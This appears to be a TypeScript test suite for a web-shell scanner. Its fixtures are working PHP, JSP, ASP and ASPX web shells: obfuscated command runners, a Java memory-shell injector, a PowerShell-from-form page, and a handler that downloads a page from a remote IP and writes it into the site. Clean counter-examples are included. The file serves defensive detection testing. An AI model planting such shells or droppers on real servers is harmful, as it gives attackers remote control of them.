import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createScanner } from './scanner.js';

// Techniques a session-22 measurement (a fresh corpus of real shells, outside the project) found
// missed, each written again by us. The PHP samples that PHP can run are run by it where it is
// installed (they print a marker), so each is a real shell and not a look-alike.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
const MARK = `s22run${process.pid}`;

function runs(src: string): boolean {
  const prelude = `$_GET = ['c' => 'echo ${MARK}', 'fn' => '2']; $_POST = $_GET; $_REQUEST = $_GET; $_SERVER['HTTP_AUTHTOKEN'] = 'k';`;
  const body = src.replace(/^<\?php\s*/, '').replace(/\?>\s*$/, '');
  const r = spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${prelude}\n${body}`], { encoding: 'utf8', timeout: 10_000 });
  return r.stdout.includes(MARK);
}

describe('scan: PHP techniques of session 22, samples of our own', () => {
  const cases: { name: string; src: string; run?: boolean }[] = [
    { name: 'array elements interpolated into a name ("$s[0]$s[1]...")', src: `<?php if ($_SERVER['HTTP_AUTHTOKEN'] == 'k') { $s = array('s', 'y', 't', 'e', 'm'); $f = "$s[0]$s[1]$s[0]$s[2]$s[3]$s[4]"; if ($_REQUEST['fn'] == '2') { echo $f($_GET['c']); } }` },
    { name: 'the same with complex syntax ("{$s[0]}...")', src: `<?php $s = ['s', 'y', 't', 'e', 'm']; $f = "{$s[0]}{$s[1]}{$s[0]}{$s[2]}{$s[3]}{$s[4]}"; $f($_GET['c']);` },
    { name: 'code decrypted with a public key from the request, appended and evaluated', run: false, src: `<?php $in = @$_POST['k']; $key = openssl_pkey_get_public(file_get_contents(__DIR__ . '/pub.pem')); $code = ''; foreach (explode('|', $in) as $part) { if (openssl_public_decrypt(base64_decode($part), $plain, $key)) { $code .= $plain; } } eval($code);` },
    { name: 'a non-alphanumeric shell (names from $_ and string operators)', run: false, src: `<?php $_ = []; $__ = '_' ^ '_'; $_[] = @$_; $_[++$__] = $_[--$__] . '' ; $_[@!+_] .= $_[$__]; $_[+!$__] = ('@' ^ '!') . ('(' ^ '['); $___ = $_[+!$__]; $__ . $__ . $__ . $__; $_[$__]($_[@!+_]);` },
  ];
  for (const s of cases) {
    it(`malicious: ${s.name}`, () => {
      if (php && s.run !== false) assert.ok(runs(s.src), `the sample does not run under PHP: ${s.src}`);
      const r = scan(s.src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('malicious: a script that makes its own file immutable', () => {
    assert.equal(scan(`<?php $me = __FILE__; @system("chattr +i $me"); @system("chmod 444 $this_file"); echo 'ok';`).verdict, 'malicious');
    assert.equal(scan(`<?php $this_file = __FILE__; @shell_exec("chattr +i $this_file");`).verdict, 'malicious');
  });
  it('suspicious: a page surveying the server with fixed commands', () => {
    const src = `<?php function run($c) { return htmlspecialchars((string) shell_exec($c)); } ?><pre><?= run('uname -a') ?>\n<?= run('df -h') ?>\n<?= run('ip addr') ?>\n<?= run('cat /etc/passwd') ?></pre>`;
    assert.equal(scan(src).verdict, 'suspicious');
  });
  it('suspicious: a function named by an array element or an expression, called with request input', () => {
    assert.equal(scan(`<?php $ops['a']['run']($_GET['c']);`).verdict, 'suspicious');
    assert.equal(scan(`<?php (Op::Run->value)($_GET['c']);`).verdict, 'suspicious');
    assert.equal(scan(`<?php $o->{'h'}($_POST['c']);`).verdict, 'suspicious');
  });
  it('clean: casts and grouping before request input, one fixed command, i18n helpers', () => {
    for (const src of [
      `<?php $pos = (int) ($_POST['pos'] ?? $_GET['pos'] ?? 0); $a = (array) ($_POST['ids'] ?? []); echo $pos + count($a);`,
      `<?php echo htmlspecialchars((string) shell_exec('uptime'));`,
      `<?php echo __('Save'), _e('Cancel'); $__ = 'x'; echo $__;`,
    ]) assert.equal(scan(src).verdict, 'clean', src);
  });
  it('clean: a JavaScript template literal in the page that PHP prints request input into', () => {
    for (const src of [
      '<html><script>const q = `<?= htmlspecialchars($_GET["q"] ?? "") ?>`;</script></html>',
      '<?php $t = 1; ?>\n<script>\nconst q = `<?php echo json_encode($_GET["q"]); ?>`;\n</script>',
    ]) assert.equal(scan(src).verdict, 'clean', src);
  });
  it('malicious: backticks in the code still run their command', () => {
    assert.equal(scan('<p>hi</p><?php $x = `id $_GET[a]`; echo $x; ?>').verdict, 'malicious');
    assert.equal(scan('<?php echo `ls {$_GET["d"]}`; ?>').verdict, 'malicious');
  });
});

describe('scan: JSP and ASP shapes of session 22, samples of our own', () => {
  const classBytes = '$ca$fe$ba$be$A$A$A4$A$ac$K$A4$AL';
  const cases: [string, string, string][] = [
    ['a memory-shell injector defining an embedded BCEL class through defineClass opened by reflection', '/www/m.jsp', `<% String s = "${classBytes}"; byte[] d = com.sun.org.apache.bcel.internal.classfile.Utility.decode(s, true); ClassLoader l = Thread.currentThread().getContextClassLoader(); Class c = Class.forName("java.lang.ClassLoader"); java.lang.reflect.Method def = c.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); def.setAccessible(true); ((Class) def.invoke(l, d, 0, d.length)).newInstance(); %>`],
    ['a request listener running the parameter of each request it sees', '/www/l.jsp', `<%@ page import="javax.servlet.*" %><%! public class L implements ServletRequestListener { public void requestInitialized(ServletRequestEvent e) { String c = e.getServletRequest().getParameter("c"); if (c != null) { try { Runtime.getRuntime().exec(c); } catch (Exception x) {} } } public void requestDestroyed(ServletRequestEvent e) {} } %>`],
    ['a WebSocket endpoint running the messages it receives', '/www/ws.jsp', `<%@ page import="javax.websocket.*" %><%! public static class E extends Endpoint implements MessageHandler.Whole<String> { Session s; public void onMessage(String m) { try { Process p = Runtime.getRuntime().exec(new String[] { "/bin/sh", "-c", m }); s.getBasicRemote().sendText(new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next()); } catch (Exception x) {} } public void onOpen(Session s, EndpointConfig c) { this.s = s; s.addMessageHandler(this); } } %>`],
    ['a page deserializing a parameter', '/www/u.jsp', `<%@ page import="java.io.*" %><% String x = request.getParameter("x"); if (x != null) { byte[] b = java.util.Base64.getDecoder().decode(x); new ObjectInputStream(new ByteArrayInputStream(b)).readObject(); } %>`],
    ['a command read from a header through reflection', '/www/r.jsp', `<% Object req = request; java.lang.reflect.Method h = req.getClass().getMethod("getHeader", String.class); String cmd = (String) h.invoke(req, "X-Cmd"); if (cmd != null) { java.util.Scanner sc = new java.util.Scanner(Runtime.getRuntime().exec(new String[] { "sh", "-c", cmd }).getInputStream()).useDelimiter("\\\\A"); out.print(sc.hasNext() ? sc.next() : ""); } %>`],
    ['PowerShell run from a TextBox', '/www/p.aspx', `<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation.Runspaces" %><script runat="server">void Go(object s, EventArgs e) { var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline(); p.Commands.AddScript(Script.Text); p.Commands.Add("Out-String"); Output.Text = p.Invoke()[0].ToString(); }</script><form runat="server"><asp:TextBox ID="Script" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:Literal ID="Output" runat="server"/></form>`],
    ['a file written where one TextBox says with what another holds', '/www/w.aspx', `<%@ Page Language="C#" %><script runat="server">void Save(object s, EventArgs e) { var w = new System.IO.StreamWriter(this.PathBox.Text, true); w.Write(this.BodyBox.Text); w.Close(); }</script>`],
    ['Shell.Application starting the program the form names', '/www/s.asp', `<%\nprog = Request.Form("p")\nargs = Request.Form("a")\nIf prog <> "" Then\nSet sh = CreateObject("Shell.Application")\nsh.ShellExecute prog, args, "", "open", 0\nEnd If\n%>`],
    ['a VBScript function that evaluates its argument, given the request', '/www/f.asp', `<!-- notes -->\n<%Function run(code) eval code End Function%><%d = Request("k")%><%run d%>`],
    ['an ASP.NET handler downloading a page into the site', '/www/d.ashx', `<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.IO; using System.Net;\npublic class H : IHttpHandler { public bool IsReusable { get { return false; } }\npublic void ProcessRequest(HttpContext c) { string t; using (var w = new WebClient()) { t = w.DownloadString("https://198.51.100.7/p.txt"); } var f = File.CreateText(c.Server.MapPath("cache.aspx")); f.Write(t); f.Close(); } }`],
    ['JScript handing eval around and giving it the request', '/www/j.asp', `<%@LANGUAGE="JScript"%>\n<% function pick(x) { return x ? Request.Form("z") + "" : eval; } pick(0)(pick(1)); %>`],
  ];
  for (const [name, path, src] of cases) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('suspicious: a registry survey, a logon as another account, a web.config editor', () => {
    const pages: [string, string][] = [
      ['/www/reg.aspx', `<%@ Page Language="C#" %><% foreach (var h in new[] { Microsoft.Win32.Registry.LocalMachine, Microsoft.Win32.Registry.Users, Microsoft.Win32.Registry.CurrentUser, Microsoft.Win32.Registry.ClassesRoot }) foreach (var n in h.GetValueNames()) Response.Write(n + "<br/>"); %>`],
      ['/www/as.aspx', `<%@ Page Language="C#" %><script runat="server">[System.Runtime.InteropServices.DllImport("advapi32.dll")] static extern int LogonUserA(string u, string d, string p, int t, int v, ref IntPtr h); void Go(object s, EventArgs e) { IntPtr t = IntPtr.Zero; if (LogonUserA(User.Text, ".", Pass.Text, 2, 0, ref t) != 0) { var id = new System.Security.Principal.WindowsIdentity(t); id.Impersonate(); } }</script>`],
      ['/www/cfg.aspx', `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { var c = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration("~"); var kv = Entry.Text.Split(':'); c.AppSettings.Settings.Remove(kv[0]); c.AppSettings.Settings.Add(kv[0], kv[1]); c.Save(); }</script>`],
    ];
    for (const [path, src] of pages) assert.equal(scan(src, path).verdict, 'suspicious', path);
  });
  it('clean: an ASP.NET page saving a downloaded feed as XML, a VBScript helper that formats its argument', () => {
    assert.equal(scan(`<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { using (var w = new System.Net.WebClient()) { System.IO.File.WriteAllText(Server.MapPath("~/App_Data/feed.xml"), w.DownloadString("https://example.org/feed")); } }</script>`, '/www/feed.aspx').verdict, 'clean');
    assert.equal(scan(`<%Function show(s) Response.Write Server.HTMLEncode(s) End Function%><%show Request("q")%>`, '/www/show.asp').verdict, 'clean');
  });
  it('clean: a JSP reading serialized objects from its own file, an ASPX log written to a fixed path', () => {
    assert.equal(scan(`<%@ page import="java.io.*" %><% ObjectInputStream in = new ObjectInputStream(new FileInputStream(application.getRealPath("/WEB-INF/cache.ser"))); Object o = in.readObject(); out.print(request.getParameter("q") == null ? "" : "ok"); %>`, '/www/ok.jsp').verdict, 'clean');
    assert.equal(scan(`<%@ Page Language="C#" %><script runat="server">void Save(object s, EventArgs e) { var w = new System.IO.StreamWriter(Server.MapPath("~/App_Data/notes.log"), true); w.WriteLine(Note.Text); w.Close(); }</script>`, '/www/ok.aspx').verdict, 'clean');
  });
});
